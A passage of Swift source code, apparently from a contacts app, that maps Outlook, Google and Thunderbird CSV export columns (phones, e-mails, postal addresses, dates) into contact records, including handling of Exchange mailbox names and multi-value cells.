        ]
        for (n, (place, type)) in [("business", "work"), ("home", "home"), ("other", "other"), ("work", "work")].enumerated() {
            for (suffix, part) in addressParts {
                table["\(place)_\(suffix)"] = NumberedColumn(kind: .address, number: place == "work" ? 1 : n + 1, part: part, type: type)
            }
        }
        // Outlook's phone columns among them (Callback stays a note: other programs use the word
        // for a date): its primary phone first, of no kind unless another column gives the same
        // number one; the person's own numbers, then the company's line, then the faxes and
        // pager. The assistant's phone (another person's number, which would match the assistant's
        // own card to this person) and a telex stay notes.
        let phones: [(String, String?)] = [
            ("primary_phone", nil), ("business_phone", "work"), ("business_phone_2", "work"), ("work_phone", "work"), ("mobile_phone", "mobile"),
            ("mobile", "mobile"), ("cell", "mobile"), ("cell_phone", "mobile"), ("mobile_number", "mobile"), ("car_phone", "mobile"),
            ("home_phone", "home"), ("home_phone_2", "home"), ("other_phone", "other"), ("radio_phone", "mobile"), ("isdn", "other"),
            ("tty_tdd_phone", "other"), ("company_main_phone", "work"),
            ("business_fax", "work"), ("home_fax", "home"), ("other_fax", "other"), ("pager", "other"),
        ]
        for (n, (header, type)) in phones.enumerated() { table[header] = NumberedColumn(kind: .phone, number: n + 1, part: "value", type: type) }
        for part in ["address", "type", "display_name"] { table["e_mail_\(part)"] = NumberedColumn(kind: .email, number: 1, part: part) }
        return table
    }()

    init(kind: Kind, number: Int, part: String, type: String? = nil) {
        (self.kind, self.number, self.part, self.type) = (kind, number, part, type)
    }

    /// Reads a normalised header (`e_mail_1_value`, `business_city`); nil when it is not a numbered column.
    init?(_ key: String) {
        if let column = NumberedColumn.named[key] {
            self = column
            return
        }
        guard let (prefix, kind) = NumberedColumn.prefixes.first(where: { key.hasPrefix($0.0) }) else { return nil }
        let rest = key.dropFirst(prefix.count)
        let digits = rest.prefix { $0.isASCII && $0.isNumber }
        guard !digits.isEmpty, let n = Int(digits), rest.dropFirst(digits.count).first == "_" else { return nil }
        let part = String(rest.dropFirst(digits.count + 1))
        guard NumberedColumn.parts[kind]!.contains(part) else { return nil }
        (self.kind, self.number, self.part) = (kind, n, part)
    }

    /// The column as a field name in a record's cells (`#email.1.value`, `#phone.1.value.work`), and back.
    var field: String { "#\(kind.rawValue).\(number).\(part)" + (type.map { ".\($0)" } ?? "") }
    init?(field: String) {
        guard field.hasPrefix("#") else { return nil }
        let bits = field.dropFirst().split(separator: ".")
        guard bits.count == 3 || bits.count == 4, let kind = Kind(rawValue: String(bits[0])), let n = Int(bits[1]) else { return nil }
        self.init(kind: kind, number: n, part: String(bits[2]), type: bits.count == 4 ? String(bits[3]) : nil)
    }

    /// Exchange's own name for a mailbox (X.500: `/o=ExchangeLabs/ou=…/cn=Recipients/cn=…`), as
    /// Outlook exports a colleague's address: it means nothing outside that Exchange.
    static func isExchangeName(_ text: String) -> Bool { text.lowercased().hasPrefix("/o=") }

    /// The address an Outlook display name holds: all of it (`kim@x.example`) or what its last
    /// parentheses hold (`Kim Lee (kim@x.example)`); nil when it holds none.
    static func address(inDisplayName name: String) -> String? {
        var text = name.trimmed
        if text.hasSuffix(")"), let open = text.lastIndex(of: "(") { text = text[text.index(after: open)...].dropLast().trimmed }
        let halves = text.split(separator: "@", omittingEmptySubsequences: false)
        guard halves.count == 2, !halves[0].isEmpty, !text.contains(where: { $0.isWhitespace || "()<>,;".contains($0) }) else { return nil }
        let domain = halves[1].split(separator: ".", omittingEmptySubsequences: false)
        return domain.count >= 2 && !domain.contains(where: \.isEmpty) ? text : nil
    }

    /// A label as a kind Tend knows (`* Work` → work, `Mobile` → mobile); nil for one of the
    /// user's own or none.
    static func type(_ label: String?) -> String? {
        guard let label else { return nil }
        let bare = label.replacingOccurrences(of: "*", with: "").trimmed.lowercased()
        switch bare {
        case "work", "business", "office": return "work"
        case "home", "personal": return "home"
        case "mobile", "cell", "iphone": return "mobile"
        case "other": return "other"
        default: return nil
        }
    }

    /// A record's numbered cells, gathered by group.
    struct Groups {
        private var cells: [Kind: [Int: [String: String]]] = [:]
        /// The header of each group's value column, for warnings.
        private var headers: [Kind: [Int: String]] = [:]

        mutating func add(_ value: String, _ column: NumberedColumn, header: String) {
            cells[column.kind, default: [:]][column.number, default: [:]][column.part] = value
            if let type = column.type { cells[column.kind]![column.number]!["label"] = type }
            if ["value", "address", "number"].contains(column.part) { headers[column.kind, default: [:]][column.number] = header }
        }

        private func groups(_ kind: Kind) -> [(number: Int, cells: [String: String])] {
            (cells[kind] ?? [:]).sorted { $0.key < $1.key }.map { ($0.key, $0.value) }
        }

        /// Google's events: an anniversary or birthday for the field of that name (when the
        /// record gives none), any other a named date; a value that is no date is a note.
        func events() -> (fields: [String: Day], dates: [NamedDate], notes: [String]) {
            var fields: [String: Day] = [:]
            var dates: [NamedDate] = []
            var notes: [String] = []
            for (number, g) in groups(.event) {
                guard let text = g["value"]?.trimmed, !text.isEmpty else { continue }
                let given = (g["label"] ?? g["type"])?.trimmed ?? ""
                let label = given.isEmpty ? "other" : given
                guard let day = CSVImport.parseDate(text) else {
                    notes.append("\(headers[.event]?[number] ?? "Event \(number)"): \(label) \(text)")
                    continue
                }
                let field = label.lowercased()
                if ["anniversary", "birthday"].contains(field), fields[field] == nil { fields[field] = day } else { dates.append(NamedDate(label, day)) }
            }
            return (fields, dates, notes)
        }

        /// Several values in one cell are Google's "a ::: b", each with its label when the label
        /// cell gives one apiece ("* Work ::: Home", Google's older export), else the one it gives.
        private func points(_ kind: Kind) -> [(ContactPoint, group: [String: String], header: String)] {
            groups(kind).flatMap { number, g in
                let labels = (g["label"] ?? g["type"]).map { $0.components(separatedBy: ":::") } ?? []
                let values = (g["value"] ?? g["address"] ?? g["number"] ?? "").components(separatedBy: ":::")
                return values.indices.compactMap { k -> (ContactPoint, group: [String: String], header: String)? in
                    let value = values[k].trimmed
                    guard !value.isEmpty else { return nil }
                    let label = labels.count == values.count ? labels[k] : labels.count == 1 ? labels[0] : nil
                    return (ContactPoint(value, type: NumberedColumn.type(label)), g, headers[kind]?[number] ?? "")
                }
            }
        }

        /// The e-mails, and the cells that hold no address (kept as notes). An Exchange name is
        /// read as the address its display name holds, else left out; either is a warning.
        func emails(origin: String, warnings: inout [ImportError]) -> (addresses: [ContactPoint], notes: [String]) {
            var addresses: [ContactPoint] = []
            var notes: [String] = []
            for (point, g, header) in points(.email) {
                if point.value.contains("@") {
                    // Several in one cell, as a plain e-mail column reads them.
                    for a in CSVImport.addresses(in: point.value) { addresses.append(ContactPoint(a, type: point.type)) }
                } else if NumberedColumn.isExchangeName(point.value) || g["type"]?.uppercased() == "EX" {
                    let shown = g["display_name"].flatMap { $0 == point.value ? nil : $0 }
                    if let address = shown.flatMap(NumberedColumn.address(inDisplayName:)) {
                        addresses.append(ContactPoint(address, type: point.type))
                        warnings.append(
                            ImportError(
                                origin, field: header,
                                "\"\(point.value)\" is an Exchange name: read as the address its display name holds, \(address)"))
                    } else {
                        let named = shown.map { " (\($0))" } ?? ""
                        warnings.append(
                            ImportError(origin, field: header, "\"\(point.value)\" is an Exchange name\(named), not an e-mail address: left out"))
                    }
                } else {
                    notes.append(point.value)
                }
            }
            return (addresses, notes)
        }

        var phones: [ContactPoint] { points(.phone).map(\.0) }
        /// Several addresses in one group are Google's "1 A St ::: 2 B St" in each part.
        var addresses: [PostalAddress] {
            groups(.address).flatMap { _, whole -> [[String: String]] in
                let split = whole.mapValues { $0.components(separatedBy: ":::").map(\.trimmed) }
                let count = split.values.map(\.count).max() ?? 0
                return (0..<count).map { i in split.compactMapValues { $0.count > i && !$0[i].isEmpty ? $0[i] : nil } }
            }.compactMap { g in
                // One line of formatted text beside other parts that does not repeat the city is the
                // street (Thunderbird's "Home Address"); a whole address beside its parts is theirs again.
                var first = g["street"]
                let others = ["street_2", "street_3", "extended_address", "po_box", "city", "region", "postal_code", "country"].contains { g[$0] != nil }
                if first == nil, others, let line = g["formatted"], !line.contains("\n"), !CSVImport.repeatsCity(line, g["city"]) {
                    first = line
                }
                let street = [first, g["street_2"], g["street_3"], g["extended_address"], g["po_box"]].compactMap { $0 }.joined(separator: ", ")
                var a = PostalAddress(
                    street: street.isEmpty ? nil : street, city: g["city"], region: g["region"], postcode: g["postal_code"], country: g["country"],
                    type: NumberedColumn.type(g["label"] ?? g["type"]))
                // Only the formatted text: kept as the street, where a card keeps what it cannot split.
                if a.street == nil, a.city == nil, a.region == nil, a.postcode == nil, a.country == nil {
                    guard let formatted = g["formatted"] else { return nil }
                    a.street = formatted.replacingOccurrences(of: "\n", with: ", ")
                }
                return a
            }
        }
    }
}

extension CSVImport {
    /// Whether one line of formatted address is the whole address rather than its street: it
    /// names the city as a part of its own, after a comma ("1 A St, Springfield, IL"); a street
    /// that holds the city's name ("5 Bathwick Hill" in Bath) is a street.
    static func repeatsCity(_ line: String, _ city: String?) -> Bool {
        guard let city = city?.trimmed.lowercased(), !city.isEmpty else { return false }
        return line.split(separator: ",").dropFirst().contains { part in
            let words = part.trimmed.lowercased()
            return words == city || words.hasPrefix(city + " ")
        }
    }

    /// A header as a message shows it: its first columns, cut to 200 characters (a file of one
    /// 100 MB line was repeated whole).
    static func shownHeader(_ header: [String]) -> String {
        let shown = header.prefix(40).joined(separator: ", ")
        guard shown.count > 200 || header.count > 40 else { return shown }
        let columns = header.count == 1 ? "1 column" : "\(header.count) columns"
        return (shown.count > 200 ? shown.prefix(200) : Substring(shown)) + "… (\(columns))"
    }
}
